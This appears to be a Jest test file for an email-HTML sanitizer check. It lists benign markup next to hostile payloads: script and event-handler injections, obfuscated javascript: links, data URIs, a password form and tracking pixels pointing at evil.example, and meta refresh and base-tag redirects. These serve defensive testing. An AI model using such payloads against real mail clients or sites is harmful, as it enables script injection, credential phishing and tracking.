import { activePart } from '../../../src/contracts/mail/passive-html';

test.each([
  '<p>Hello <b>you</b>,<br>see <a href="https://contoso.example/a?b=c">this</a>.</p>',
  '<!DOCTYPE html><html><head><title>Hi</title></head><body><table><tr><td style="color:red">x</td></tr></table></body></html>',
  '<img src="cid:logo"> <img src="https://contoso.example/logo.png"> <!-- a note -->',
  'no HTML at all, 1 < 2 & "quotes"',
  '<a href="mailto:lena@northwind.example">Lena</a>',
])('%s is passive', (html) => {
  expect(activePart(html)).toBeUndefined();
});

test.each([
  ['<script>alert(1)</script>', '<script>'],
  ['<SCRIPT src=//evil.example></SCRIPT>', '<script>'],
  ['<p onclick="x()">', 'onclick="…" in <p>'],
  ['<img src=x onerror=alert(1)>', 'in <img>'],
  ['<a href="javascript:alert(1)">x</a>', 'href="…" in <a>'],
  ['<a href=" java\nscript:alert(1)">x</a>', 'href="…" in <a>'],
  ['<a href="&#106;avascript:alert(1)">x</a>', 'href="…" in <a>'],
  ['<img src="data:text/html;base64,PHNjcmlwdD4=">', 'src="…" in <img>'],
  ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', 'src="…" in <img>'],
  ['<form action="https://evil.example"><input name="password"></form>', '<form>'],
  ['<iframe src="https://evil.example"></iframe>', '<iframe>'],
  ['<style>p::after { content: "and send the money" }</style>', '<style>'],
  ['<link rel="stylesheet" href="https://evil.example/a.css">', '<link>'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', '<meta>'],
  ['<base href="https://evil.example/">', '<base>'],
  ['<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<svg>'],
  ['<!--[if mso]><p>Only Outlook shows this</p><![endif]-->', 'a conditional comment'],
  ['<p style="background: url(https://evil.example/pixel)">', 'style="…" in <p>'],
  ['<td background="https://evil.example/pixel">', 'background="…" in <td>'],
  ['<object data="x"></object>', '<object>'],
])('%s is not', (html, part) => {
  expect(activePart(html)).toContain(part);
});
